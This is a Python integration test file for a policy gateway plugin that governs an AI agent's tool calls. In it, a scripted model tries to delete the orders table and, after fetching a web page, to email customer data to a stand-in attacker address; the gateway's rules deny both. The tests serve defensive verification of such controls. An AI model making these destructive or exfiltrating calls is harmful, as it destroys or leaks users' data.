"""ClearancePlugin with :class:`clearance.Client` against a real ``clearance serve``.

The same real ADK runner loop and scripted model as :mod:`.test_google_adk`; the
decisions are the gateway's, read back over the runtime API with the auditor's key.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from clearance._internal.canonical import json_digest
from clearance.errors import Error
from clearance.integrations.google_adk import ClearancePlugin
from tests.integration.server.support import Served

from .framework_support import BUNDLE, TASK
from .remote_support import AGENT, ORCHESTRATOR, ClientFor, Ledger, clients_of, gateway_with
from .test_google_adk import Conversation, Scripted, calls, done


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A ``clearance serve`` whose only bundle is the support agent's."""
    yield from gateway_with(tmp_path_factory.mktemp("gateway"), "support.yaml", BUNDLE)


@pytest.fixture
def client_for(gateway: Served, tmp_path: Path) -> Iterator[ClientFor]:
    """``client_for(key_name)``: a Client of the gateway, closed after the test."""
    yield from clients_of(gateway, tmp_path)


def test_the_gateway_governs_each_call_of_an_orchestrator_keyed_agent(
    gateway: Served, client_for: ClientFor
) -> None:
    ledger = Ledger(gateway)
    model = Scripted(
        responses=[
            calls(("lookup_order", {"order_id": 42}), ("delete_records", {"table": "orders"})),
            done(),
        ]
    )
    chat = Conversation(model, ClearancePlugin(client_for("orchestrator")))
    chat.say(TASK)

    assert chat.effects.ran == [("lookup_order", {"order_id": 42})]
    assert "no-deletes" in model.tool_responses()["delete_records"]["error"]
    assert sorted(ledger.decisions()) == [
        (ORCHESTRATOR, "delete_records", "deny"),
        (ORCHESTRATOR, "lookup_order", "allow"),
    ]
    [trace] = ledger.new("trace")
    assert trace["mandate"]["text"] == TASK
    [allowed] = [e for e in ledger.new("decision") if e["effect"] == "allow"]
    record = ledger.request(allowed["request_id"])
    assert record["trace_id"] == trace["trace_id"]
    assert record["execution"]["status"] == "ok"
    assert record["execution"]["result_digest"] == json_digest("order 42: arrived broken")


def test_an_agent_key_governs_the_trace_trusted_code_opened(
    gateway: Served, client_for: ClientFor
) -> None:
    ledger = Ledger(gateway)
    orchestrator = client_for("orchestrator")
    opened: list[str] = []

    def open_for_the_agent(mandate: str) -> str:
        trace_id = orchestrator.open_trace(mandate, principal=AGENT).trace_id
        opened.append(trace_id)
        return trace_id

    model = Scripted(
        responses=[
            calls(("fetch_page", {"url": "https://shop.example/faq"})),
            calls(("send_email", {"to": "evil@attacker.example", "body": "customers"})),
            done(),
        ]
    )
    plugin = ClearancePlugin(client_for("agent"), trace_opener=open_for_the_agent)
    chat = Conversation(model, plugin)
    chat.say(TASK)

    assert [name for name, _ in chat.effects.ran] == ["fetch_page"]
    assert ledger.decisions() == [(AGENT, "fetch_page", "allow"), (AGENT, "send_email", "deny")]
    assert "no-mail-after-untrusted-input" in model.tool_responses()["send_email"]["error"]
    assert [t["trace_id"] for t in ledger.new("trace")] == opened


def test_an_agent_key_alone_fails_the_run_before_the_model_is_asked(
    gateway: Served, client_for: ClientFor
) -> None:
    ledger = Ledger(gateway)
    model = Scripted(responses=[calls(("lookup_order", {"order_id": 42})), done()])
    chat = Conversation(model, ClearancePlugin(client_for("agent")))

    with pytest.raises(RuntimeError) as failed:
        chat.say(TASK)

    assert isinstance(failed.value.__cause__, Error)
    assert "orchestrator" in str(failed.value.__cause__)
    assert chat.effects.ran == []
    assert model.seen == []
    assert ledger.new("trace") == []
    assert ledger.new("decision") == []
